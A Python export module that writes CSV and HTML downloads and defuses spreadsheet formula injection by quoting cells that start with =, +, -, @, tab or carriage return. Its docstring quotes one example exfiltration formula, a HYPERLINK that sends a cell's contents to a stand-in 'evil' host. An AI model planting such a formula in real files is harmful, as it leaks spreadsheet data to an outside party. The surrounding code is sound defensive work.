"""Downloads: CSV bytes of a table, a standalone HTML file of a chart, safe file names.

Every CSV we write (the app's downloads through :func:`csv_bytes`, ``ci-medic analyze``'s files
through :func:`write_csv`) goes through :func:`safe_csv_frame`: a text cell a spreadsheet would
run as a formula (a job named ``=HYPERLINK("http://evil/?"&A1,"open")``) starts with a single
quote instead (OWASP's CSV injection rule: cells beginning with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return). Numbers are left alone: numeric columns are never touched, and a text
cell that is just a number (``-3``, ``-1,234.50``, ``+5%``) is not a formula either.

Rows end with ``\r\n`` as RFC 4180 says (:data:`LINE_END`), which also makes the csv module
quote every cell holding a carriage return or a line feed: written with ``\n`` only, a cell
``"deploy \r=HYPERLINK(...)"`` went out unquoted, so every CSV reader started a new row at the
``\r`` whose first cell was a formula no rule had seen. Every other cell, and so the file, is
byte-for-byte what ``DataFrame.to_csv(index=False, lineterminator="\r\n")`` writes.

The HTML embeds plotly.js (``include_plotlyjs=True``, about 4.7 MB), so the file opens offline
and years later without a CDN; the pages therefore build it lazily, only when clicked. PNGs come
from the chart's own toolbar camera (configured by :func:`plotly_config`), which needs no
server-side renderer.
"""

from __future__ import annotations

import math
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import plotly.graph_objects as go
from pandas.api import types

__all__ = [
    "json_value",
    "FORMULA_START",
    "LINE_END",
    "csv_bytes",
    "export_name",
    "figure_html",
    "plotly_config",
    "safe_csv_cell",
    "safe_csv_frame",
    "write_csv",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as a formula
LINE_END = "\r\n"  # RFC 4180; the csv module then quotes any cell holding \r or \n
_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")

_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def json_value(value: Any, digits: int) -> Any:
    """``value`` as JSON holds it: numpy scalars as Python ones, lists, tuples and arrays as
    lists, floats rounded to ``digits`` places, NaN as null (``ci-medic flaky``'s lines and
    ``quarantine.json``)."""
    if isinstance(value, list | tuple | np.ndarray):
        return [json_value(item, digits) for item in value]
    if value is None:
        return None
    if hasattr(value, "item"):
        value = value.item()
    if isinstance(value, float):
        return None if math.isnan(value) else round(value, digits)
    return value


def export_name(*parts: object) -> str:
    """``acme-labs/shopfront``, ``runs per day``, 30 -> ``acme-labs_shopfront-runs_per_day-30``."""
    cleaned = [_UNSAFE.sub("_", str(part)).strip("_") for part in parts if str(part)]
    return "-".join(part for part in cleaned if part)[:120] or "ci-medic"


def safe_csv_cell(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet runs: a string starting with ``=``, ``+``, ``-``,
    ``@``, tab or carriage return gets a leading ``'``, unless it is just a number; anything
    else (numbers, other text, missing values) is returned as it is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if any(ch.isdigit() for ch in value) and _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with :func:`safe_csv_cell` applied to every text column (object, string or
    category dtype); numeric, boolean and time columns are never touched. Returns ``frame``
    itself when no cell needs a change."""
    out = frame
    for position in range(frame.shape[1]):
        series = frame.iloc[:, position]
        if not (
            series.dtype == object
            or types.is_string_dtype(series.dtype)
            or isinstance(series.dtype, pd.CategoricalDtype)
        ):
            continue
        values = series.astype(object)
        if not values.map(lambda v: safe_csv_cell(v) is not v).any():
            continue
        if out is frame:
            out = frame.copy()
        out.isetitem(position, values.map(safe_csv_cell))
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The table as UTF-8 CSV without the index (times stay ISO-8601 with their offset), rows
    ending with ``\r\n`` and formula-looking text cells defused (:func:`safe_csv_frame`)."""
    return _csv_text(frame).encode("utf-8")


def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
    """Write ``frame`` to ``path`` as :func:`csv_bytes` makes it (UTF-8, no index, ``\r\n``,
    formula-looking text cells defused); returns the path."""
    Path(path).write_bytes(csv_bytes(frame))
    return Path(path)


def _csv_text(frame: pd.DataFrame) -> str:
    """The one place a CSV is written: every export goes through here."""
    return safe_csv_frame(frame).to_csv(index=False, lineterminator=LINE_END)


def figure_html(fig: go.Figure, title: str | None = None) -> bytes:
    """A self-contained HTML page of the figure: plotly.js inlined, no network needed."""
    html = fig.to_html(
        include_plotlyjs=True, full_html=True, config={"displaylogo": False, "responsive": True}
    )
    if title:
        html = html.replace("<head>", f"<head><title>{_escape(title)}</title>", 1)
    return html.encode("utf-8")


def plotly_config(file_stem: str) -> dict:
    """The chart toolbar: the camera button downloads a PNG named after the chart."""
    return {
        "displaylogo": False,
        "toImageButtonOptions": {"format": "png", "filename": file_stem, "scale": 2},
    }


def _escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )
